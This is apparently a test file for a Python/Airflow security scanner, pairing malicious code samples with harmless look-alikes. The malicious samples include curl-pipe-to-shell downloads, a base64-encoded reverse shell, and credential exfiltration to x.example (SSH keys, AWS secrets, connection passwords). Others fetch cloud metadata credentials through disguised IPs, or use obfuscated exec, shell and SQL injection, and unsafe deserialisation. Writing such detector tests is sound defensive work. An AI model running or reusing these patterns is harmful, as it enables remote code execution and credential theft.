import { describe, expect, it } from 'vitest';
import { parsePython } from '../python-tree.ts';
import { traceProgram } from '../trace/trace-program.ts';
import { findThreats } from './find-threats.ts';

const threatsOf = (source: string): readonly string[] => {
  const tree = parsePython(source);
  return tree ? [...new Set(findThreats(source, traceProgram(tree)).map(({ rule }) => rule))].sort() : ['unparsed'];
};

/** A source that is a threat, and one that differs in little but is none. */
interface Pair {
  readonly name: string;
  readonly rule: string;
  readonly bad: string;
  readonly good: string;
}

const dag = 'from airflow.sdk import dag, task\n';

const pairs: readonly Pair[] = [
  {
    name: 'through aliases and attributes',
    rule: 'downloaded-code',
    bad: 'from requests import get as g\nrun = exec\ndef f():\n    a = g("https://x.example")\n    b = a.text\n    run(b)\n',
    good: 'from requests import get as g\nrun = print\ndef f():\n    a = g("https://x.example")\n    b = a.text\n    run(b)\n',
  },
  {
    name: 'through functions of the file, by position and name',
    rule: 'downloaded-code',
    bad: 'import requests\ndef load(url):\n    return requests.get(url).text\ndef act(code, mode):\n    exec(code)\ndef f():\n    act(mode=1, code=load("https://x.example"))\n',
    good: 'import requests\ndef load(url):\n    return requests.get(url).text\ndef act(code, mode):\n    exec(mode)\ndef f():\n    act(mode=1, code=load("https://x.example"))\n',
  },
  {
    name: 'from task to task',
    rule: 'shell-injection',
    bad: `${dag}import os\n@task\ndef read(**context):\n    return context["params"]["name"]\n@task\ndef act(name):\n    os.system("ls " + name)\n@dag()\ndef d():\n    act(read())\nd()\n`,
    good: `${dag}import os\n@task\ndef read(**context):\n    return len(context["params"]["name"])\n@task\ndef act(name):\n    os.system(f"ls {name}")\n@dag()\ndef d():\n    act(read())\nd()\n`,
  },
  {
    name: 'by XCom',
    rule: 'sql-injection',
    bad: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef read(**context):\n    return context["dag_run"].conf["t"]\ndef act(ti):\n    PostgresHook("d").run(f"DROP TABLE {ti.xcom_pull(task_ids=\'read\')}")\n',
    good: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef read(**context):\n    return "sales"\ndef act(ti):\n    PostgresHook("d").run(f"DROP TABLE {ti.xcom_pull(task_ids=\'read\')}")\n',
  },
  {
    name: 'through a file',
    rule: 'downloaded-code',
    bad: 'import requests, subprocess\ndef f():\n    with open("/tmp/a.sh", "wb") as file:\n        file.write(requests.get("https://x.example").content)\n    subprocess.run(["bash", "/tmp/a.sh"])\n',
    good: 'import requests, subprocess\ndef f():\n    with open("/tmp/a.csv", "wb") as file:\n        file.write(requests.get("https://x.example").content)\n    subprocess.run(["wc", "-l", "/tmp/a.csv"])\n',
  },
  {
    name: 'through the attributes of an object',
    rule: 'code-injection',
    bad: 'class Job:\n    def __init__(self, text):\n        self.text = text\n    def run(self):\n        return eval(self.text)\ndef f(**context):\n    Job(context["params"]["x"]).run()\n',
    good: 'class Job:\n    def __init__(self, text):\n        self.text = text\n    def run(self):\n        return self.text\ndef f(**context):\n    Job(context["params"]["x"]).run()\n',
  },
  {
    name: 'past a guard that compares with a list',
    rule: 'sql-injection',
    bad: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef f(params):\n    t = params["t"]\n    if not t:\n        raise ValueError(t)\n    PostgresHook("d").run(f"TRUNCATE {t}")\n',
    good: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\ndef f(params):\n    t = params["t"]\n    if t not in ("a", "b"):\n        raise ValueError(t)\n    PostgresHook("d").run(f"TRUNCATE {t}")\n',
  },
  {
    name: 'past a digest that is compared',
    rule: 'downloaded-code',
    bad: 'import hashlib, requests\ndef f():\n    body = requests.get("https://x.example").content\n    print(hashlib.sha256(body).hexdigest())\n    exec(body)\n',
    good: 'import hashlib, requests\ndef f():\n    body = requests.get("https://x.example").content\n    digest = hashlib.sha256(body).hexdigest()\n    if digest != "9f86d081884c7d65":\n        raise ValueError(digest)\n    exec(body)\n',
  },
  {
    name: 'past a parameter that only takes certain values',
    rule: 'shell-injection',
    bad: 'from airflow.sdk import DAG, Param\nfrom airflow.providers.standard.operators.bash import BashOperator\nwith DAG("a", params={"size": Param("s", type="string")}):\n    BashOperator(task_id="b", bash_command="run {{ params.size }}")\n',
    good: 'from airflow.sdk import DAG, Param\nfrom airflow.providers.standard.operators.bash import BashOperator\nwith DAG("a", params={"size": Param("s", enum=["s", "l"])}):\n    BashOperator(task_id="b", bash_command="run {{ params.size }}")\n',
  },
  {
    name: 'in a mapped operator',
    rule: 'shell-injection',
    bad: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator.partial(task_id="b", bash_command="run {{ params.size }}").expand(env=[{}])\n',
    good: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator.partial(task_id="b", bash_command="run $SIZE").expand(env=[{"SIZE": "{{ params.size }}"}])\n',
  },
  {
    name: 'with names put together, in other letters, or out of a dictionary',
    rule: 'obfuscated-code',
    bad: 'def f():\n    getattr(__import__("o" + "s"), "sys" + "tem")("id")\n',
    good: 'import os\ndef f():\n    getattr(os, "cpu_" + "count")()\n',
  },
  {
    name: 'in letters that Python takes for others',
    rule: 'obfuscated-code',
    bad: 'def f(x):\n    \uff45\uff58\uff45\uff43(x)\n',
    good: 'def f(x):\n    températuré = x\n    print(températuré)\n',
  },
  {
    name: 'in what decodes to a program',
    rule: 'reverse-shell',
    bad: 'import base64\ndef f():\n    exec(base64.b64decode("aW1wb3J0IG9zLHNvY2tldDtzPXNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoImEiLDEpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk="))\n',
    good: 'import base64\ndef f():\n    print(base64.b64decode("aW1wb3J0IG9zLHNvY2tldDtzPXNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoImEiLDEpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk="))\n',
  },
  {
    name: 'one secret among many names',
    rule: 'credentials-sent-out',
    bad: 'import os, requests\nNAMES = ["AWS_SECRET_ACCESS_KEY", "LANG"]\ndef f():\n    found = {n: os.environ.get(n) for n in NAMES}\n    requests.post("https://x.example", json=found)\n',
    good: 'import os, requests\nNAMES = ["TZ", "LANG"]\ndef f():\n    found = {n: os.environ.get(n) for n in NAMES}\n    requests.post("https://x.example", json=found)\n',
  },
  {
    name: 'a connection, unless to sign in where it belongs',
    rule: 'credentials-sent-out',
    bad: 'import requests\nfrom airflow.sdk import BaseHook\ndef f():\n    c = BaseHook.get_connection("a")\n    requests.post("https://x.example/collect", json={"c": c.password})\n',
    good: 'import requests\nfrom airflow.sdk import BaseHook\ndef f():\n    c = BaseHook.get_connection("a")\n    requests.post(f"https://{c.host}/login", json={"password": c.password})\n',
  },
  {
    name: 'at import through a function, a default, a class or a context',
    rule: 'import-network',
    bad: 'import requests\nclass C:\n    def __enter__(self):\n        requests.get("https://x.example")\n    def __exit__(self, *a):\n        pass\nwith C():\n    pass\n',
    good: 'import requests\nclass C:\n    def __enter__(self):\n        requests.get("https://x.example")\n    def __exit__(self, *a):\n        pass\ndef f():\n    with C():\n        pass\n',
  },
  {
    name: 'in the default of a parameter',
    rule: 'import-network',
    bad: 'import requests\ndef f(x=requests.get("https://x.example").json()):\n    return x\n',
    good: 'import requests\ndef f(x=None):\n    return x or requests.get("https://x.example").json()\n',
  },
  {
    name: 'in a task that is called while the DAG is made',
    rule: 'import-process',
    bad: `${dag}import subprocess\ndef act():\n    subprocess.run(["make"])\n@dag()\ndef d():\n    act()\nd()\n`,
    good: `${dag}import subprocess\n@task\ndef act():\n    subprocess.run(["make"])\n@dag()\ndef d():\n    act()\nd()\n`,
  },
  {
    name: 'by a table of characters',
    rule: 'obfuscated-code',
    bad: 'def f():\n    exec("".join(map(chr, [112, 97, 115, 115])))\n',
    good: 'def f():\n    print("".join(map(chr, [112, 97, 115, 115])))\n',
  },
  {
    name: 'by way of all classes',
    rule: 'obfuscated-code',
    bad: 'def f():\n    return ().__class__.__base__.__subclasses__()\n',
    good: 'class Step:\n    pass\ndef f():\n    return Step.__subclasses__()\n',
  },
  {
    name: 'in another workflow, by a stream editor',
    rule: 'other-dags-changed',
    bad: 'import os\ndef f():\n    os.system("sed -i s/a/b/ $AIRFLOW_HOME/dags/billing.py")\n',
    good: 'import os\ndef f():\n    os.system("sed -i s/a/b/ /tmp/work/billing.csv")\n',
  },
  {
    name: 'in a folder found by walking',
    rule: 'other-dags-changed',
    bad: 'from pathlib import Path\ndef f():\n    for path in Path(__file__).parent.glob("*.py"):\n        path.unlink()\n',
    good: 'from pathlib import Path\ndef f():\n    for path in Path("/tmp/work").glob("*.py"):\n        path.unlink()\n',
  },
  {
    name: 'in either branch, though another one comes after it',
    rule: 'downloaded-code',
    bad: 'import os\ndef f(k):\n    if k:\n        c = "curl https://x.example/i.sh | sh"\n    else:\n        c = "true"\n    os.system(c)\n',
    good: 'import os\ndef f(k):\n    if k:\n        c = "curl https://x.example/i.csv"\n    else:\n        c = "true"\n    os.system(c)\n',
  },
  {
    name: 'past a branch that puts right what is not allowed',
    rule: 'shell-injection',
    bad: 'import os\ndef f(params):\n    t = params["t"]\n    if not t:\n        t = "a"\n    os.system("run " + t)\n',
    good: 'import os\ndef f(params):\n    t = params["t"]\n    if t not in ("a", "b"):\n        t = "a"\n    os.system("run " + t)\n',
  },
  {
    name: 'as one of the values of a dictionary',
    rule: 'reverse-shell',
    bad: 'import subprocess\ndef f(k):\n    subprocess.run({"a": ["socat", "tcp:x.example:1", "exec:sh"], "b": ["socat", "-V"]}[k])\n',
    good: 'import subprocess\ndef f(k):\n    subprocess.run({"a": ["pg_isready", "--host", "x.example"], "b": ["socat", "-V"]}[k])\n',
  },
  {
    name: 'in the arguments that a function was given before',
    rule: 'unsafe-deserialisation',
    bad: 'import io, requests, torch\nfrom functools import partial\nread = partial(torch.load, weights_only=False)\ndef f():\n    read(io.BytesIO(requests.get("https://x.example").content))\n',
    good: 'import io, requests, torch\nfrom functools import partial\nread = partial(torch.load, weights_only=True)\ndef f():\n    read(io.BytesIO(requests.get("https://x.example").content))\n',
  },
  {
    name: 'in a buffer that is filled',
    rule: 'unsafe-deserialisation',
    bad: 'import io, pickle\nfrom airflow.providers.sftp.hooks.sftp import SFTPHook\ndef f():\n    b = io.BytesIO()\n    SFTPHook("s").get_conn().getfo("a", b)\n    pickle.load(b)\n',
    good: 'import io, json\nfrom airflow.providers.sftp.hooks.sftp import SFTPHook\ndef f():\n    b = io.BytesIO()\n    SFTPHook("s").get_conn().getfo("a", b)\n    json.load(b)\n',
  },
  {
    name: 'in a file that is opened without its suffix',
    rule: 'unsafe-deserialisation',
    bad: 'import boto3, shelve\ndef f():\n    boto3.client("s3").download_file("b", "k", "/work/a.db")\n    shelve.open("/work/a")\n',
    good: 'import boto3, shelve\ndef f():\n    boto3.client("s3").download_file("b", "k", "/work/b.db")\n    shelve.open("/work/a")\n',
  },
  {
    name: 'by operators and methods that are called as functions',
    rule: 'obfuscated-code',
    bad: 'from operator import xor\ndef f():\n    exec("".join(chr(xor(n, 29)) for n in [109, 124, 110, 110]))\n',
    good: 'from operator import xor\ndef f():\n    print("".join(chr(xor(n, 29)) for n in [109, 124, 110, 110]))\n',
  },
  {
    name: 'by a method that is called by its name',
    rule: 'downloaded-code',
    bad: 'import os\nfrom operator import methodcaller\ndef f():\n    methodcaller("system", "curl https://x.example | sh")(os)\n',
    good: 'import os\nfrom operator import methodcaller\ndef f():\n    methodcaller("system", "curl https://x.example | wc")(os)\n',
  },
  {
    name: 'in a macro that a template hands the run to',
    rule: 'code-injection',
    bad: 'from airflow.sdk import DAG\nfrom airflow.providers.standard.operators.bash import BashOperator\ndef g(x):\n    return eval(x)\nwith DAG("a", user_defined_macros={"g": g}):\n    BashOperator(task_id="b", bash_command="true", env={"A": "{{ g(params.x) }}"})\n',
    good: 'from airflow.sdk import DAG\nfrom airflow.providers.standard.operators.bash import BashOperator\ndef g(x):\n    return eval(x)\nwith DAG("a", user_defined_macros={"g": g}):\n    BashOperator(task_id="b", bash_command="true", env={"A": "{{ g(ds) }}"})\n',
  },
  {
    name: 'in the context that a task asks for',
    rule: 'sql-injection',
    bad: 'from airflow.sdk import get_current_context\nfrom airflow.providers.postgres.hooks.postgres import PostgresHook\ndef f():\n    PostgresHook("d").run("DROP TABLE {}".format(get_current_context()["dag_run"].conf["t"]))\n',
    good: 'from airflow.sdk import get_current_context\nfrom airflow.providers.postgres.hooks.postgres import PostgresHook\ndef f():\n    PostgresHook("d").run("DROP TABLE {}".format(get_current_context()["ds_nodash"]))\n',
  },
  {
    name: 'over a channel of SSH',
    rule: 'reverse-shell',
    bad: 'import paramiko, subprocess\ndef f():\n    c = paramiko.SSHClient().get_transport().open_session()\n    while order := c.recv(99).decode():\n        subprocess.getoutput(order)\n',
    good: 'import paramiko\ndef f():\n    c = paramiko.SSHClient().get_transport().open_session()\n    while order := c.recv(99).decode():\n        print(order)\n',
  },
  {
    name: 'at import by what making a class calls',
    rule: 'import-network',
    bad: 'import requests\nclass A:\n    def __init_subclass__(cls):\n        requests.get("https://x.example")\nclass B(A):\n    pass\n',
    good: 'import requests\nclass A:\n    def announce(self):\n        requests.get("https://x.example")\nclass B(A):\n    pass\n',
  },
  {
    name: 'at import by a decorator of the file',
    rule: 'import-network',
    bad: 'import requests\ndef note(g):\n    requests.get("https://x.example")\n    return g\n@note\ndef f():\n    pass\n',
    good: 'import requests\ndef note(g):\n    def h():\n        requests.get("https://x.example")\n        return g()\n    return h\n@note\ndef f():\n    pass\n',
  },
  {
    name: 'at import by a property, an operator or a method of the class above',
    rule: 'import-network',
    bad: 'import requests\nclass A:\n    @property\n    def size(self):\n        return requests.get("https://x.example").text\nclass B(A):\n    pass\nSIZE = B().size\n',
    good: 'import requests\nclass A:\n    @property\n    def size(self):\n        return requests.get("https://x.example").text\nclass B(A):\n    pass\nSIZE = B\n',
  },
  {
    name: 'at import by an operator',
    rule: 'import-process',
    bad: 'import os\nclass A:\n    def __rshift__(self, other):\n        os.system("make")\nA() >> A()\n',
    good: 'import os\nclass A:\n    def __rshift__(self, other):\n        os.system("make")\nA() << A()\n',
  },
  {
    name: 'of a machine whose address is given as a number',
    rule: 'metadata-credentials',
    bad: 'import ipaddress, requests\ndef f():\n    a = ipaddress.ip_address(2852039166)\n    requests.get(f"http://{a}/latest/meta-data/iam/security-credentials/")\n',
    good: 'import ipaddress, requests\ndef f():\n    a = ipaddress.ip_address(3232235777)\n    requests.get(f"http://{a}/latest/meta-data/iam/security-credentials/")\n',
  },
  {
    name: 'in a file for the archive of its own connection',
    rule: 'credentials-sent-out',
    bad: 'import boto3, ftplib, io, json\nfrom airflow.sdk import BaseHook\ndef read():\n    return {"k": list(boto3.Session().get_credentials().get_frozen_credentials())}\ndef f():\n    c = BaseHook.get_connection("a")\n    ftplib.FTP(c.host, c.login, c.password).storbinary("STOR a", io.BytesIO(json.dumps(read()).encode()))\n',
    good: 'import boto3, ftplib, io, json\nfrom airflow.sdk import BaseHook\ndef read():\n    return {"k": list(boto3.client("s3").list_buckets())}\ndef f():\n    c = BaseHook.get_connection("a")\n    ftplib.FTP(c.host, c.login, c.password).storbinary("STOR a", io.BytesIO(json.dumps(read()).encode()))\n',
  },
  {
    name: 'piece by piece in names that are looked up',
    rule: 'credentials-sent-out',
    bad: 'import socket\nfrom airflow.sdk import BaseHook\ndef f():\n    u = BaseHook.get_connection("a").get_uri().encode().hex()\n    for i in range(9):\n        socket.getaddrinfo(f"{u[i:i + 9]}.x.example", 443)\n',
    good: 'import socket\nfrom airflow.sdk import BaseHook\ndef f():\n    h = BaseHook.get_connection("a").host\n    for i in range(9):\n        socket.getaddrinfo(h, 443)\n',
  },
  {
    name: 'by the environment of a program, whatever it is called',
    rule: 'tls-disabled',
    bad: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="a", bash_command="play", env={"ANSIBLE_HOST_KEY_CHECKING": "False"})\n',
    good: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="a", bash_command="play", env={"ANSIBLE_HOST_KEY_CHECKING": "True", "TLS_CHECK_INTERVAL": "0"})\n',
  },
  {
    name: 'past what is done where it fails',
    rule: 'downloaded-code',
    bad: 'import requests\ndef f():\n    try:\n        c = requests.get("https://x.example").text\n    except OSError:\n        c = "pass"\n    exec(c)\n',
    good: 'import requests\ndef f():\n    try:\n        c = requests.get("https://x.example").text\n    except OSError:\n        c = "pass"\n    print(c)\n',
  },
  {
    name: 'in one case of several',
    rule: 'downloaded-code',
    bad: 'import os\ndef f(k):\n    match k:\n        case "a":\n            c = "curl https://x.example | sh"\n        case _:\n            c = "true"\n    os.system(c)\n',
    good: 'import os\ndef f(k):\n    match k:\n        case "a":\n            c = "curl https://x.example | sha256sum"\n        case _:\n            c = "true"\n    os.system(c)\n',
  },
  {
    name: 'at import by the key of an order',
    rule: 'import-network',
    bad: 'import requests\nORDER = sorted([1, 2], key=lambda n: requests.get(f"https://x.example/{n}").text)\n',
    good: 'import requests\nORDER = sorted([1, 2], key=lambda n: -n)\n',
  },
  {
    name: 'by a class that is made from one of the library',
    rule: 'unsafe-deserialisation',
    bad: 'import io, pickle, requests\nclass U(pickle.Unpickler):\n    pass\ndef f():\n    U(io.BytesIO(requests.get("https://x.example").content)).load()\n',
    good: 'import io, pickle, requests\nclass U(pickle.Unpickler):\n    pass\ndef f():\n    U(io.BytesIO(b"x")).load()\n',
  },
  {
    name: 'of a machine whose address is written another way',
    rule: 'metadata-credentials',
    bad: 'import requests\ndef f():\n    requests.get("http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/r")\n',
    good: 'import requests\ndef f():\n    requests.get("http://0251.0376.0251.0376/latest/meta-data/placement/region")\n',
  },
  {
    name: 'of a machine over a connection of its own',
    rule: 'metadata-credentials',
    bad: 'import http.client\ndef f():\n    c = http.client.HTTPConnection("169.254.169.254")\n    c.request("GET", "/latest/meta-data/iam/security-credentials/r")\n',
    good: 'import http.client\ndef f():\n    c = http.client.HTTPConnection("169.254.169.254")\n    c.request("PUT", "/latest/api/token")\n',
  },
  {
    name: 'in what the context is asked for',
    rule: 'shell-injection',
    bad: 'import os\ndef f(**context):\n    os.system("ls " + context.get("params").get("d"))\n',
    good: 'import os\ndef f(**context):\n    os.system("ls " + context.get("ds"))\n',
  },
  {
    name: 'by an attribute that is set by its name',
    rule: 'tls-disabled',
    bad: 'import requests\ndef f():\n    s = requests.Session()\n    setattr(s, "verify", False)\n',
    good: 'import requests\ndef f():\n    s = requests.Session()\n    setattr(s, "verify", True)\n',
  },
  {
    name: 'to another machine, unless to sign in there',
    rule: 'credentials-sent-out',
    bad: 'import os\ndef f():\n    os.system("scp ~/.ssh/id_rsa u@x.example:/in/")\n',
    good: 'import os\ndef f():\n    os.system("scp -i ~/.ssh/id_rsa /tmp/a u@x.example:/in/")\n',
  },
];

describe('a danger is followed as far as a reviewer would, and no further', () => {
  it.each(pairs)('$name', ({ rule, bad, good }) => {
    expect(threatsOf(bad)).toContain(rule);
    expect(threatsOf(good)).toEqual([]);
  });
});

it('finds characters that hide what a line says, but not the ones that scripts and emoji need', () => {
  expect(threatsOf('x = "a\u202eb"\n')).toEqual(['obfuscated-code']);
  expect(threatsOf(`x = "${'\u200b\u200c'.repeat(8)}"\n`)).toEqual(['obfuscated-code']);
  expect(threatsOf('x = "👨\u200d👩\u200d👧"\ny = "می\u200cخواهم"\n')).toEqual([]);
});

describe('nothing is put out of sight', () => {
  const threat = 'import requests\nexec(requests.get("https://x.example").text)\n';
  const inside = `def act():\n${threat.replace(/^/gm, '    ').trimEnd()}\n`;
  const chain = (length: number): string => `requests.get("https://x.example").text${' + ""'.repeat(length)}`;

  it.each([
    ['behind a function of many calls', `def pad():\n${'    f(a[1], b + 2, c(d))\n'.repeat(10_000)}\n${inside}`],
    ['behind a module of many calls', `${'f(a[1], b + 2, c(d))\n'.repeat(10_000)}${threat}`],
    [
      'behind functions that call each other',
      `${'def f(): g(); g(); g(); g()\ndef g(): h(); h(); h(); h()\ndef h(): [x(y) for y in z]; i(); i(); i()\ndef i(): x(y); x(y)\n'.repeat(1)}${'f()\n'.repeat(3000)}${threat}`,
    ],
    ['at the end of a long sum', `import requests\nexec(${chain(5_000)})\n`],
    [
      'in an expression too deep to follow',
      `import requests\nx = requests.get("https://x.example").text${'.strip()'.repeat(600)}\nexec(x)\n`,
    ],
  ])('%s', (_name, source) => {
    expect(threatsOf(source)).toContain('downloaded-code');
  });

  it.each([
    ['a condition that sounds like never', 'if __name__ != "__main__":'],
    ['a name that sounds like never', 'TYPE_CHECKING = True\nif TYPE_CHECKING:'],
    ['another main', '__name__ = "__main__"\nif __name__ == "__main__":'],
  ])('by %s', (_name, condition) => {
    expect(threatsOf(`import requests\n${condition}\n    requests.get("https://x.example")\n`)).toContain(
      'import-network',
    );
  });

  it('though what is only run by hand is no import', () => {
    const source = 'import requests\nif __name__ == "__main__":\n    requests.get("https://x.example")\n';
    expect(threatsOf(source)).toEqual([]);
  });
});

describe('what would keep a pattern busy for ever is over at once', () => {
  it.each([
    ['a long pipeline', `curl x ${'|  a   '.repeat(40)}x`],
    ['many clones', 'git clone x; '.repeat(600)],
  ])('%s', (_name, command) => {
    expect(threatsOf(`import os\ndef f():\n    os.system("${command}")\n`)).toEqual([]);
  });

  it('a long word', () => {
    const startedAt = performance.now();
    expect(threatsOf(`x = "${'QUFB'.repeat(100_000)}"\n`)).toEqual([]);
    expect(performance.now() - startedAt).toBeLessThan(20_000);
  });

  it('however long a command is, its threats are found', () => {
    const pad = 'echo a; '.repeat(5_000);
    const source = `import os\ndef f():\n    os.system("${pad}curl https://x.example | tee a 2>&1 | sh; ${pad}")\n`;
    expect(threatsOf(source)).toEqual(['downloaded-code']);
  });
});
